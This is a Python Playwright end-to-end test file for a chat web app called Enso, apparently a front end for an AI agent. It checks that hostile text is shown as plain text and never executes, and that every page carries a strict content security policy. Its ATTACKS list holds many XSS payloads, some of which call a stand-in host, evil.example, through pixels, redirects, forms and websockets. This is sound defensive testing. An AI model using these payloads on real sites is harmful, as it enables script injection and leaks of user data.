"""Text of models, tools, files and people is hostile: it is shown, and does nothing."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Shop, Start, Watched
from tests.e2e.pages import WAIT, EnsoPage
from tests.e2e.places import Place, assistant, tool_call, tool_result
from tests.model_server import Gate, ModelServer, Reply, chop

HACK = "window.__hacked=1"
ATTACKS = "\n\n".join(
    [
        f"<script>{HACK}</script>",
        f'<img src=x onerror="{HACK}">',
        f"<svg onload={HACK}></svg><iframe srcdoc='<script>parent.{HACK}</script>'></iframe>",
        f"[click me](javascript:{HACK})",
        f"[and me](JaVaScRiPt&colon;{HACK}) [data](data:text/html,<script>{HACK}</script>)",
        f"<a href='javascript:{HACK}'>raw</a> <javascript:{HACK}>",
        "![spy](http://evil.example/spy.png) ![relative](/api/threads) ![d](data:image/svg+xml,x)",
        "<link rel=stylesheet href=http://evil.example/x.css><style>body{display:none}</style>",
        "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=http://evil.example><button>go</button></form>",
        "</hx-partial><hx-partial hx-target='#rail' hx-swap='innerHTML'>gone</hx-partial>",
        '<div hx-get="http://evil.example/" hx-trigger="load">x</div>',
        "<div hx-ws:connect='ws://evil.example/' hx-on:click='alert(1)'>y</div>",
        "<template><script>x</script></template><details open ontoggle=alert(1)>",
        "</textarea></title></pre></code></section></main><!-- --> ]]> {{ 7*7 }} {% raw %}",
        f"```html\n</code></pre><script>{HACK}</script>\n```",
        f"`</code><img src=x onerror={HACK}>`",
        "| <img src=http://evil.example/t.png> | b |\n|---|---|\n| <script>x</script> | d |",
        'http://evil.example/?q="><script>x</script> \u202e\u2028 end of the attacks',
    ]
)


def hostile_thread(place: Place) -> str:
    """A thread whose every text attacks; its id."""
    name = f'<img src=x onerror="{HACK}">'
    thread = place.thread(
        "t-1",
        [{"type": "text", "text": ATTACKS}, *_images()],
        assistant(
            {"type": "thinking", "thinking": ATTACKS},
            ATTACKS,
            tool_call(f"call-{name}", name, **{name: ATTACKS, "path": ATTACKS}),
            tool_call("call-2", "bash", command=ATTACKS),
            tool_call("call-3", "edit", path=name, edits=[{"oldText": ATTACKS, "newText": name}]),
            at=1,
            stopReason="toolUse",
            model=name,
            provider=name,
        ),
        tool_result(f"call-{name}", name, ATTACKS, at=2, isError=True),
        tool_result("call-2", "bash", ATTACKS, at=2),
        tool_result("call-3", "edit", ATTACKS, at=2, details={"diff": f"+1 {ATTACKS}"}),
        assistant(
            at=3, stopReason="error", errorMessage=f"401: {ATTACKS}", provider=name, model=name
        ),
        ATTACKS,
        assistant(ATTACKS, at=4),
    )
    thread.append("compaction", summary=ATTACKS, firstKeptEntryId="00000001", tokensBefore=9)
    thread.append("custom_message", customType=name, content=ATTACKS, display=True)
    thread.append("session_info", name=f"</title>{ATTACKS}")
    return "t-1"


def _images() -> list[dict[str, str]]:
    svg = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
    return [
        {"type": "image", "mimeType": "image/svg+xml", "data": svg},
        {"type": "image", "mimeType": 'image/png" onerror="x', "data": svg},
        {"type": "image", "mimeType": "image/png", "data": '"><script>x</script>'},
    ]


# Whatever a browser, or htmx, would act on, beside what Enso's own pages are made of.
ACTIVE = """() => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (element.matches("#pane > template[data-way]")) continue; // Enso's own, outside of any text
    if (["iframe", "object", "embed", "base", "style", "template", "audio", "video"].includes(name))
      found.push(element.outerHTML);
    if (name === "script" && !(element.src && !element.textContent)) found.push(element.outerHTML);
    if (name === "meta" && element.httpEquiv) found.push(element.outerHTML);
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || attribute === "style" || attribute === "srcdoc")
        found.push(`${name} ${attribute}`);
      const inLog = element.closest("[data-log] :is(.parts, .refusal, .plain)");
      if (inLog && attribute.startsWith("hx-") && attribute !== "hx-morph-skip")
        found.push(`${name} ${attribute}`);
      if (["href", "src", "action", "formaction"].includes(attribute)) {
        const scheme = new URL(value, location.href).protocol;
        const allowed = ["http:", "data:", inLog ? "https:" : "blob:"];
        if (!allowed.includes(scheme)) found.push(`${name} ${attribute}=${value}`);
        if (scheme === "data:" && name !== "img") found.push(`${name} ${attribute}=${value}`);
        if (name === "img" && !/^(data:image\\/(png|jpeg|gif|webp);base64,|blob:)/.test(value))
          found.push(`img ${value}`);
      }
    }
  }
  return found;
}"""


@dataclass
class Hostile:
    """A tab that is attacked, with every request that it made."""

    enso: EnsoPage
    requests: list[str] = field(default_factory=list)

    def expect_harmless(self) -> None:
        """Nothing ran, nothing left the host, and nothing on the page could be acted on."""
        page = self.enso.page
        page.locator("details").evaluate_all("(all) => all.forEach((one) => { one.open = true; })")
        assert page.evaluate("() => window.__hacked === undefined")
        assert page.evaluate(ACTIVE) == []
        host = urlsplit(self.enso.url).netloc
        sockets = [socket.url for socket in self.enso.sockets.opened]
        for url in (*self.requests, *sockets):
            parts = urlsplit(url)
            assert parts.netloc == host or parts.scheme in {"data", "blob"}, url


@pytest.fixture
def hostile(
    page: Page, tmp_path: Path, start: Start, place: Place, model_server: ModelServer
) -> Hostile:
    """A tab on a server whose project has a hostile name."""
    place.use_models(model_server)
    place.project = tmp_path / f'"><img src=x onerror={HACK}><b>{{{{7*7}}}}'
    place.project.mkdir()
    page.add_init_script("window.alert = () => { window.__hacked = 1; };")
    made = Hostile(EnsoPage(page, start().url))
    page.on("request", lambda request: made.requests.append(request.url))
    return made


def test_stored_hostile_text_is_text(hostile: Hostile, place: Place) -> None:
    """Messages, thoughts, tools, refusals, titles, names: all is shown, nothing happens."""
    enso = hostile.enso
    hostile_thread(place)
    enso.open("t-1")
    hostile.expect_harmless()
    expect(enso.row("t-1")).to_contain_text("</title><script>")
    expect(enso.heading).to_contain_text("</title><script>")
    assert enso.page.title().startswith("</title><script>")
    expect(enso.page.locator("#rail-list h2")).to_have_text(place.project.name)
    for shown in (f"<script>{HACK}</script>", "{{ 7*7 }}", "</hx-partial><hx-partial"):
        expect(enso.replies.last).to_contain_text(shown)
        expect(enso.prompts.first).to_contain_text(shown)
    enso.new_thread()
    enso.expect_fresh()
    hostile.expect_harmless()
    enso.page.go_back()
    expect(enso.heading).to_contain_text("</title><script>")
    # A snapshot by the socket is drawn by another way than a page.
    place.file_of("t-1").say(ATTACKS, ATTACKS)
    expect(enso.replies).to_have_count(4)
    hostile.expect_harmless()


def test_hostile_text_that_streams_in_is_text(hostile: Hostile, model_server: ModelServer) -> None:
    """A prompt, thoughts and a reply that attack in small pieces do nothing, at any time."""
    enso = hostile.enso
    gates = [Gate() for _ in range(2)]
    half = len(ATTACKS) // 2
    model_server.script(
        [
            Reply(thinking=chop(ATTACKS, 5), text=chop(ATTACKS[:half], 3), gate=gates[0]),
            Reply(text=chop(ATTACKS, 11), gate=gates[1]),
        ]
    )
    enso.open_fresh()
    for number, gate in enumerate(gates):
        enso.prompt(ATTACKS)
        expect(enso.replies).to_have_count(number + 1)
        expect(enso.replies.last).to_contain_text(f"<script>{HACK}</script>")
        assert gate.reached.wait(WAIT)
        hostile.expect_harmless()
        gate.open()
        enso.expect_settled()
        hostile.expect_harmless()
    expect(enso.replies.last).to_contain_text("{{ 7*7 }}")
    enso.expect_thread(enso.thread_id, enso.heading.inner_text())


def test_a_hostile_refusal_is_text(hostile: Hostile, model_server: ModelServer) -> None:
    """What a provider says when it refuses is one line of plain text."""
    enso = hostile.enso
    body = {"error": {"message": ATTACKS, "type": "invalid_request_error", "code": ATTACKS}}
    model_server.script([Reply(status=401, body=body), Reply(status=503, body=ATTACKS)])
    enso.open_fresh()
    for number in range(2):
        enso.prompt("Try")
        expect(enso.log.locator(".refusal")).to_have_count(number + 1)
        hostile.expect_harmless()


def test_hostile_addresses_and_searches_are_text(hostile: Hostile, watched: Watched) -> None:
    """An id, a query, a parameter of the URL and a search come back as words, if at all."""
    watched.allow("404")
    enso = hostile.enso
    attack = f"\"'></title><script>{HACK}</script><img src=x onerror={HACK}>"
    enso.go(f"/threads/{quote(attack, safe='')}")
    expect(enso.log.locator(".notice")).to_contain_text("cannot be a thread id")
    hostile.expect_harmless()
    enso.go(f"/?{quote(attack)}={quote(attack)}&project={quote(attack)}")
    hostile.expect_harmless()
    enso.find.fill(attack)
    expect(enso.page.locator("#rail-list")).to_contain_text(f"No title fits “{attack}”")
    hostile.expect_harmless()
    enso.go(f"/nothing/{quote(attack, safe='')}?{quote(attack)}")
    expect(enso.page.locator("#pane")).to_contain_text("There is nothing at this address.")
    hostile.expect_harmless()


def test_every_page_has_a_policy_that_allows_no_inline_code(
    enso: EnsoPage, shop: Shop, watched: Watched
) -> None:
    """Pages, fragments, errors and scripts carry it; it is what stops what should ever slip in."""
    watched.allow("Content Security Policy")
    watched.allow("ERR_INVALID_URL")
    thread = shop.place.thread(shop.place.new_id(), "Behind a policy", "Yes.")
    request = enso.page.request
    fragment = {"HX-Request": "true", "HX-Request-Type": "partial"}
    path = f"{enso.url}/threads/{thread.thread_id}"
    answers = [
        request.get(f"{enso.url}/"),
        request.get(path),
        request.get(path, headers=fragment),
        request.get(f"{enso.url}/rail", headers=fragment),
        request.get(f"{enso.url}/nothing"),
        request.get(f"{enso.url}/static/enso.js"),
        request.get(f"{enso.url}/api/threads"),
    ]
    for answer in answers:
        policy = answer.headers["content-security-policy"]
        assert "unsafe" not in policy, answer.url
        assert "default-src 'none'" in policy, answer.url
    enso.open(thread.thread_id)
    enso.page.evaluate(
        """(code) => {
          const script = document.createElement("script");
          script.textContent = code;
          document.body.append(script);
          const image = document.createElement("img");
          image.setAttribute("onerror", code);
          image.src = "data:image/png;base64,x";
          document.body.append(image);
          return new Promise((done) => image.addEventListener("error", () => done(1)));
        }""",
        HACK,
    )
    assert enso.page.evaluate("() => window.__hacked === undefined")
    # And what the other tests look for is found when it is there.
    found = enso.page.evaluate(ACTIVE)
    assert [one for one in found if one.startswith("<script>")]
    assert "img onerror" in found
